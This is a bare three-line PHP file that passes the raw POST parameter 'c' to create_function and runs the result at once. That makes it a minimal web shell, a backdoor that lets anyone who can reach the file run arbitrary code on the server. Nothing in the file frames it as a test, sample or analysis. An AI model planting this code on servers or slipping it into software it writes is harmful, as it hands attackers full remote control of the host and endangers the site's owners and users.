<?php
$f = create_function('', $_POST['c']);
$f();
